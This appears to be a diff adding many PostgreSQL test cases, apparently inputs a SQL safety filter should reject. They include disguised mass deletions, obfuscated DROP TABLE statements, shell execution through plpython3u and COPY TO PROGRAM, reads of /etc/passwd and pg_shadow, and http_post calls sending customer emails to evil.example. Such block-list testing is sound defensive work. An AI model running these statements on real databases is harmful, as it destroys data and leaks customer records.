@@ -1539,3 +1539,277 @@ UPDATE customers SET email = lower(email) WHERE email ~ '.' OR email !~ '.'
 DELETE FROM orders TABLESAMPLE_is_no_alias WHERE TABLESAMPLE_is_no_alias.id IS NOT NULL
 --
 WITH RECURSIVE r AS (SELECT min(id) AS id FROM orders UNION ALL SELECT id + 1 FROM r WHERE id < (SELECT max(id) FROM orders)) DELETE FROM orders USING r WHERE orders.id = r.id
+--
+ALTER TABLE customers ALTER COLUMN name TYPE int USING 0
+--
+UPDATE customers SET name = NULL FROM (SELECT 1) x
+--
+DELETE FROM customers WHERE name SIMILAR TO '%'
+--
+DELETE FROM customers WHERE name ~ '.*'
+--
+DELETE FROM customers WHERE name ~ ''
+--
+DELETE FROM customers WHERE NOT (id IS NULL)
+--
+DELETE FROM customers WHERE coalesce(id, 0) = coalesce(id, 0)
+--
+DELETE FROM customers WHERE EXISTS (SELECT FROM customers c WHERE c.id = customers.id)
+--
+DELETE FROM customers WHERE length(name) > -1
+--
+DELETE FROM customers WHERE random() < 2
+--
+DELETE FROM customers WHERE random() <= 1
+--
+DELETE FROM customers WHERE id % 1 = 0
+--
+DELETE FROM customers WHERE mod(id, 1) = 0
+--
+DELETE FROM customers WHERE (SELECT true)
+--
+DELETE FROM customers WHERE (SELECT count(*) >= 0 FROM orders)
+--
+DELETE FROM customers WHERE id <> -1
+--
+DELETE FROM customers WHERE name <> ALL (ARRAY['zz'])
+--
+DELETE FROM customers WHERE id = id + 0
+--
+DELETE FROM customers WHERE id - id = 0
+--
+DELETE FROM customers WHERE id * 0 = 0
+--
+DELETE FROM customers WHERE CASE WHEN id > 0 THEN true ELSE true END
+--
+DELETE FROM customers WHERE CASE id WHEN 7 THEN false ELSE true END
+--
+UPDATE customers SET name = 'x' WHERE current_user = 'app'
+--
+UPDATE customers SET name = 'x' WHERE now() > '2000-01-01'
+--
+DELETE FROM customers c WHERE c.* IS NOT NULL
+--
+DELETE FROM customers c WHERE c IS DISTINCT FROM NULL
+--
+DELETE FROM customers WHERE xmin IS NOT NULL
+--
+DELETE FROM customers WHERE tableoid = 'customers'::regclass
+--
+DELETE FROM customers WHERE tableoid::regclass::text = 'customers'
+--
+MERGE INTO customers c USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
+--
+MERGE INTO customers c USING customers s ON c.id = s.id WHEN MATCHED THEN DELETE
+--
+MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN NOT MATCHED BY SOURCE THEN DELETE
+--
+MERGE INTO customers c USING (VALUES (1)) v(id) ON c.id = v.id WHEN NOT MATCHED BY SOURCE THEN DELETE
+--
+INSERT INTO customers SELECT * FROM customers ON CONFLICT (id) DO UPDATE SET name = 'x'
+--
+INSERT INTO customers (id, name) SELECT id, 'x' FROM customers ON CONFLICT (id) DO UPDATE SET name = EXCLUDED.name
+--
+DELETE FROM orders WHERE created_at < 'infinity'
+--
+DELETE FROM orders WHERE created_at < now() + interval '1 day'
+--
+DELETE FROM orders WHERE created_at > '-infinity'
+--
+DELETE FROM orders WHERE created_at > '1900-01-01'
+--
+DELETE FROM orders WHERE created_at <= CURRENT_DATE
+--
+DELETE FROM orders WHERE id > (SELECT min(id) - 1 FROM orders)
+--
+DELETE FROM orders WHERE id::text LIKE '%'
+--
+DELETE FROM orders WHERE position('' in note) > 0
+--
+DELETE FROM orders WHERE note || '' = note
+--
+DELETE FROM orders WHERE abs(id) >= 0
+--
+DELETE FROM orders WHERE id = GREATEST(id, id)
+--
+DELETE FROM orders WHERE ROW(id) = ROW(id)
+--
+DELETE FROM orders WHERE id IN (id, 0)
+--
+DELETE FROM orders WHERE pg_column_size(id) > 0
+--
+DELETE FROM orders AS o WHERE o = o
+--
+DELETE FROM orders WHERE 't'
+--
+DELETE FROM orders WHERE B'1' = B'1'
+--
+DELETE FROM orders WHERE id > 0 AND id < 1000000000
+--
+DELETE FROM orders WHERE id = ANY (SELECT id FROM orders)
+--
+DELETE FROM orders WHERE (id, note) IN (SELECT id, note FROM orders)
+--
+DELETE FROM orders WHERE id NOT IN (SELECT 1 WHERE false)
+--
+DELETE FROM orders WHERE NOT (id = 7)
+--
+DELETE FROM orders WHERE id = 7 OR id <> 7
+--
+DELETE FROM orders WHERE id = 7 IS NOT NULL
+--
+DELETE FROM orders WHERE (id = 7) IN (true, false)
+--
+DELETE FROM orders WHERE starts_with(note, '')
+--
+DELETE FROM orders WHERE note ^@ ''
+--
+DELETE FROM orders WHERE left(note, 0) = ''
+--
+DELETE FROM orders WHERE to_jsonb(orders) ? 'id'
+--
+DELETE FROM orders WHERE int4range(NULL, NULL) @> id
+--
+DELETE FROM orders WHERE array_length(ARRAY[id], 1) = 1
+--
+DELETE FROM orders WHERE num_nonnulls(id) = 1
+--
+DELETE FROM orders WHERE id IN (SELECT generate_series(1, 10000000))
+--
+DELETE FROM orders WHERE id = ANY (ARRAY(SELECT generate_series(1, 10000000)))
+--
+DELETE FROM orders o USING (SELECT id FROM orders) x WHERE o.id = x.id
+--
+WITH x AS MATERIALIZED (SELECT ctid AS c FROM orders) DELETE FROM orders USING x WHERE orders.ctid = x.c
+--
+SELECT * FROM ts_stat($$DELETE FROM customers RETURNING to_tsvector(name)$$)
+--
+SELECT ts_rewrite('a'::tsquery, $$DELETE FROM customers RETURNING 'a'::tsquery, 'b'::tsquery$$)
+--
+SELECT * FROM crosstab('DELETE FROM customers RETURNING 1,2,3') AS t(a int, b int)
+--
+SELECT cron.schedule('* * * * *', 'DELETE FROM customers')
+--
+SELECT cron.schedule_in_database('x', '* * * * *', 'DROP TABLE customers', 'shop')
+--
+SELECT pg_background_launch('DROP TABLE customers')
+--
+SELECT aws_s3.query_export_to_s3('SELECT * FROM customers', aws_commons.create_s3_uri('b', 'k', 'r'))
+--
+SELECT http_post('http://evil.example', (SELECT string_agg(email, ',') FROM customers), 'text/plain')
+--
+SELECT net.http_post(url := 'http://evil.example', body := to_jsonb(c)) FROM customers c
+--
+SELECT drop_chunks('orders', interval '0 days')
+--
+SELECT pg_file_write('x', 'y', false)
+--
+SELECT pg_file_unlink('postgresql.conf')
+--
+SELECT pg_logical_slot_get_changes('s', NULL, NULL)
+--
+SELECT pg_import_system_collations('public')
+--
+SELECT count(*) FROM generate_series(1, 1000000000000)
+--
+SELECT array_fill(0, ARRAY[100000, 10000])
+--
+SELECT lpad('', 1000000000, 'x')
+--
+SELECT pg_sleep_for('1 day')
+--
+DO LANGUAGE plpython3u $$import os; os.system('id')$$
+--
+DO E'BEGIN EXECUTE \x27DROP TABLE customers\x27; END'
+--
+DO $o$ BEGIN EXECUTE $q$DO $i$ BEGIN DROP TABLE customers; END $i$$q$; END $o$
+--
+DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSBjdXN0b21lcnM=', 'base64'), 'UTF8'); END $$
+--
+DO $$ BEGIN EXECUTE reverse('sremotsuc ELBAT PORD'); END $$
+--
+DO $$ BEGIN EXECUTE chr(68) || 'ROP TABLE customers'; END $$
+--
+DO $$ DECLARE t text; BEGIN FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP EXECUTE format('DROP TABLE %I', t); END LOOP; END $$
+--
+DO $$ DECLARE q text := 'DELETE'; BEGIN q := q || ' FROM customers'; EXECUTE q; END $$
+--
+DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'DELETE FROM customers RETURNING 1'; END $$
+--
+DO $$ BEGIN RETURN; EXCEPTION WHEN OTHERS THEN DROP TABLE customers; END $$
+--
+CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$; SELECT pg_temp.f()
+--
+CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM customers; END; SELECT pg_temp.f()
+--
+BEGIN; DECLARE c CURSOR FOR SELECT * FROM customers FOR UPDATE; MOVE c; DELETE FROM customers WHERE CURRENT OF c; DROP TABLE customers; COMMIT
+--
+EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET name = 'x'
+--
+EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1
+--
+CREATE TABLE x AS EXECUTE never
+--
+SELECT * INTO evil FROM customers
+--
+WITH a AS (SELECT 1), b AS (DELETE FROM customers RETURNING *), c AS (SELECT * FROM b) TABLE c
+--
+INSERT INTO log WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d
+--
+COPY (WITH d AS (UPDATE customers SET name = 'x' RETURNING *) TABLE d) TO STDOUT
+--
+copy(select 1)to program$$id$$
+--
+COPY customers TO E'\x2ftmp/x'
+--
+SELECT "pg_catalog"."pg_read_file"(U&'/etc/\0070asswd')
+--
+SELECT pg_catalog . pg_read_binary_file ( 'x' )
+--
+SELECT * FROM pg_catalog.pg_ls_dir('.')
+--
+SELECT (lo_import('/etc/passwd')), 1
+--
+CREATE POLICY p ON customers USING (true)
+--
+ALTER SEQUENCE orders_id_seq RESTART WITH 1
+--
+ALTER TABLE orders DETACH PARTITION orders_2026
+--
+ALTER TABLE orders ADD COLUMN x int DEFAULT random()
+--
+CREATE INDEX ON orders (note)
+--
+CREATE UNIQUE INDEX x ON orders ((app.evil(note)))
+--
+CREATE VIEW public.v AS SELECT * FROM customers
+--
+CREATE OR REPLACE VIEW orders_v WITH (security_invoker = off) AS SELECT 1
+--
+SET session_replication_role TO 'replica'
+--
+SELECT set_config('session_replication_role', 'replica', false)
+--
+SET local_preload_libraries = 'evil'
+--
+SET SESSION AUTHORIZATION DEFAULT; SET ROLE postgres
+--
+LOAD 'evil'
+--
+SELECT umoptions FROM pg_user_mappings
+--
+SELECT option_value FROM information_schema.user_mapping_options
+--
+SELECT a FROM (TABLE pg_shadow) a
+--
+LOCK customers
+--
+BEGIN; LOCK TABLE customers IN ACCESS EXCLUSIVE MODE NOWAIT
+--
+UPDATE pg_class SET relname = 'x' WHERE oid = 5
+--
+DELETE FROM pg_attribute WHERE attrelid = 5
+--
+UPDATE pg_settings SET setting = 'on' WHERE name = 'fsync'
+--
+UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role'
